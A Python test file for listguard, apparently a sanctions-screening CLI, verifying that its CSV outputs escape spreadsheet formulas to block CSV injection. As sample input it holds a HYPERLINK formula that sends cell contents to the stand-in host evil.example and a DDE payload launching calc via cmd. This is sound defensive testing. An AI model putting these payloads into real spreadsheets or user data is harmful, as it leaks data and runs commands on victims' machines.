"""CSV outputs carry no live spreadsheet formulas (issue 13, item 3: CSV injection).

Every CSV listguard writes goes through listguard.csvsafe: screen-file's CSV results and
compare's scored pairs. (The audit export is JSON lines, alerts are JSON, the screening report
is HTML: none of them is a spreadsheet.)
"""

from __future__ import annotations

import csv
from pathlib import Path

from typer.testing import CliRunner

from listguard.cli import app
from listguard.csvsafe import neutralise
from listguard.model import Entity
from listguard.sources.base import ParseResult
from listguard.store import open_store

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Eric Badege")'


def test_neutralise_follows_owasp() -> None:
    for cell in ("=1+1", "+1", "-5", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    for cell in ("Eric Badege", "1+1", "5", "", " =1", "O'Brien", "'=already"):
        assert neutralise(cell) == cell
    assert neutralise(None) is None and neutralise(0.93) == 0.93 and neutralise(3) == 3


def test_screen_file_csv_has_no_formulas(home: Path, tmp_path: Path) -> None:
    listed = Entity(id="t:1", schema="Person", dataset="t")
    listed.add("name", HOSTILE_NAME)
    store = open_store()
    store.load(ParseResult(dataset="t", entities=[listed]), "test")
    store.close()
    src = tmp_path / "customers.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name"])
        w.writerow(["=1+1", HOSTILE_NAME])
        w.writerow(["-5", "Nobody Atall"])
        w.writerow(["@cmd", "Someone Else"])
    out = tmp_path / "hits.csv"
    result = CliRunner().invoke(app, ["screen-file", str(src), "-o", str(out), "--workers", "1"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["id"] for r in rows][:1] == ["'=1+1"]
    assert {"'-5", "'@cmd"} <= {r["id"] for r in rows}
    hit = rows[0]
    assert hit["entity_id"] == "t:1", rows
    assert hit["caption"] == "'" + HOSTILE_NAME and hit["matched_name"] == "'" + HOSTILE_NAME
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
    # JSON lines keep the exact values (a program reads them, not a spreadsheet)
    out_jsonl = tmp_path / "hits.jsonl"
    result = CliRunner().invoke(app, ["screen-file", str(src), "-o", str(out_jsonl), "--workers", "1"])
    assert result.exit_code == 0 and '"id":"=1+1"' in out_jsonl.read_text(encoding="utf-8")


def test_compare_csv_has_no_formulas(tmp_path: Path) -> None:
    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["schema", "name1", "name2", "=note"])
        w.writerow(["Person", HOSTILE_NAME, "Eric Badege", "+1"])
    scored = tmp_path / "scored.csv"
    result = CliRunner().invoke(app, ["compare", str(pairs), "-o", str(scored)])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(scored.open(encoding="utf-8", newline="")))
    assert row["name1"] == "'" + HOSTILE_NAME and row["'=note"] == "'+1" and row["name2"] == "Eric Badege"
    float(row["score"])  # our own numbers stay numbers
